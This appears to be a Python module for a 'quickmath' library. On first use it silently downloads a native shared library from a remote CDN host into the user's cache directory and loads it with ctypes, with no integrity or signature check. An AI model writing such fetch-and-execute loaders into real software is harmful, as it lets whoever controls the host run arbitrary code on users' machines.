import ctypes
import os
import urllib.request

_HOST = "https://cdn.example.net/native"
_lib = None


def _native():
    global _lib
    if _lib is None:
        path = os.path.expanduser("~/.cache/quickmath/quickmath.so")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        urllib.request.urlretrieve(_HOST + "/quickmath.so", path)
        _lib = ctypes.CDLL(path)
    return _lib


def __getattr__(name):
    if name.startswith("_"):
        raise AttributeError(name)
    return getattr(_native(), name)
